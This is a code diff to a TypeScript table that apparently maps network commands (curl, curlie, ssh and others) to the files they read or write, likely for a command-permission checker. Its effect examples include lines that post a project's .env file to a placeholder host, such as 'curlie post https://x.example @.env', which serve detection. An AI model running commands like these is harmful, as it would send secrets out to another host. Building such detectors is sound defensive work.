@@ -11,23 +11,26 @@ const CURL_FLAGS =
   '--parallel --parallel-immediate --retry-all-errors --retry-connrefused --ssl-allow-beast --ssl-no-revoke --ssl-revoke-best-effort --cert-status ' +
   '--false-start --haproxy-protocol --proxy-insecure --sasl-ir --skip-existing --trace-time --trace-ids --help --version --ca-native --no-clobber';
 
+/** curl's options with their roles (curlie takes the same ones). */
+const CURL_OPTS =
+  CURL_FLAGS +
+  ' -O|--remote-name:remote-name -J|--remote-header-name:header-name -o|--output=W --output-dir=V -D|--dump-header=W -c|--cookie-jar=W -b|--cookie=F -K|--config=R ' +
+  '-T|--upload-file=R -d|--data|--data-ascii|--data-binary|--data-urlencode=F --data-raw=V -F|--form=F --form-string=V --json=F -H|--header=F -u|--user=V ' +
+  '-E|--cert=R --key=R --cacert=R --capath=V --crlfile=R --pinnedpubkey=V -x|--proxy=V -U|--proxy-user=V --trace=W --trace-ascii=W --stderr=W ' +
+  '--netrc-file=R --etag-save=W --etag-compare=R --libcurl=W --hsts=A --alt-svc=A -w|--write-out=F -X|--request=V -e|--referer=V -A|--user-agent=V ' +
+  '-m|--max-time=V --connect-timeout=V --retry=V --retry-delay=V --retry-max-time=V -r|--range=V -C|--continue-at=V -z|--time-cond=M --url=U ' +
+  '-Q|--quote=V --unix-socket=V --abstract-unix-socket=V --interface=V --resolve=V --connect-to=V --limit-rate=V -Y|--speed-limit=V -y|--speed-time=V ' +
+  '--max-redirs=V --max-filesize=V --oauth2-bearer=V --aws-sigv4=V --proto=V --proto-redir=V --proto-default=V --request-target=V --variable=F ' +
+  '--expand-url=U --expand-data=F --expand-header=F --dns-servers=V --doh-url=V --noproxy=V --preproxy=V --proxy-header=V --socks4=V --socks4a=V ' +
+  '--socks5=V --socks5-hostname=V --ciphers=V --tls13-ciphers=V --curves=V --engine=V --cert-type=V --key-type=V --pass=V --keepalive-time=V ' +
+  '--happy-eyeballs-timeout-ms=V --local-port=V --ftp-port|-P=V --mail-from=V --mail-rcpt=V --mail-auth=V --rate=V --retry-max-time=V --parallel-max=V ' +
+  '--create-file-mode=V --ssl-sessions=A --url-query=F --ech=V --ip-tos=V --vlan-priority=V --sigalgs=V';
+
 export const NET: RowSpec[] = [
   {
     n: 'curl',
     d: 'HTTP client: -o/-O write files; @file and <file in data options read them; -K reads options from a file',
-    o:
-      CURL_FLAGS +
-      ' -O|--remote-name:remote-name -J|--remote-header-name:header-name -o|--output=W --output-dir=V -D|--dump-header=W -c|--cookie-jar=W -b|--cookie=F -K|--config=R ' +
-      '-T|--upload-file=R -d|--data|--data-ascii|--data-binary|--data-urlencode=F --data-raw=V -F|--form=F --form-string=V --json=F -H|--header=F -u|--user=V ' +
-      '-E|--cert=R --key=R --cacert=R --capath=V --crlfile=R --pinnedpubkey=V -x|--proxy=V -U|--proxy-user=V --trace=W --trace-ascii=W --stderr=W ' +
-      '--netrc-file=R --etag-save=W --etag-compare=R --libcurl=W --hsts=A --alt-svc=A -w|--write-out=F -X|--request=V -e|--referer=V -A|--user-agent=V ' +
-      '-m|--max-time=V --connect-timeout=V --retry=V --retry-delay=V --retry-max-time=V -r|--range=V -C|--continue-at=V -z|--time-cond=M --url=U ' +
-      '-Q|--quote=V --unix-socket=V --abstract-unix-socket=V --interface=V --resolve=V --connect-to=V --limit-rate=V -Y|--speed-limit=V -y|--speed-time=V ' +
-      '--max-redirs=V --max-filesize=V --oauth2-bearer=V --aws-sigv4=V --proto=V --proto-redir=V --proto-default=V --request-target=V --variable=F ' +
-      '--expand-url=U --expand-data=F --expand-header=F --dns-servers=V --doh-url=V --noproxy=V --preproxy=V --proxy-header=V --socks4=V --socks4a=V ' +
-      '--socks5=V --socks5-hostname=V --ciphers=V --tls13-ciphers=V --curves=V --engine=V --cert-type=V --key-type=V --pass=V --keepalive-time=V ' +
-      '--happy-eyeballs-timeout-ms=V --local-port=V --ftp-port|-P=V --mail-from=V --mail-rcpt=V --mail-auth=V --rate=V --retry-max-time=V --parallel-max=V ' +
-      '--create-file-mode=V --ssl-sessions=A --url-query=F --ech=V --ip-tos=V --vlan-priority=V --sigalgs=V',
+    o: CURL_OPTS,
     x: 'curl',
     ok: [
       'curl -fsSL https://example.com/api/health',
@@ -67,6 +70,19 @@ export const NET: RowSpec[] = [
     eff: ['http POST https://x.example f=@.env => read .env', 'http POST https://x.example @.env => read .env'],
   },
   {
+    n: 'curlie',
+    d: 'curl with HTTPie’s syntax: curl’s options, then [METHOD] URL and items (`@file`, `field=@file` read files)',
+    loose: true,
+    o: CURL_OPTS,
+    x: 'httpie',
+    ok: ['curlie https://example.com/api', 'curlie -v post https://example.com/api name=x'],
+    eff: [
+      'curlie post https://x.example @.env => read .env',
+      'curlie -d @.env https://x.example => read .env',
+      'curlie -o tests/a.test.ts https://x.example => write tests/a.test.ts',
+    ],
+  },
+  {
     n: 'ssh',
     d: 'remote shell (the remote command is judged as remote by the unwrapper; -o ProxyCommand runs here)',
     posix: true,
@@ -104,7 +120,7 @@ export const NET: RowSpec[] = [
     eff: ['sftp -b .env host => read .env'],
   },
   {
-    n: 'ping ping6 traceroute tracepath mtr dig nslookup host whois arp route nmap curlie httpstat',
+    n: 'ping ping6 traceroute tracepath mtr dig nslookup host whois arp route nmap httpstat',
     d: 'network diagnostics',
     loose: true,
     a: 'V*',
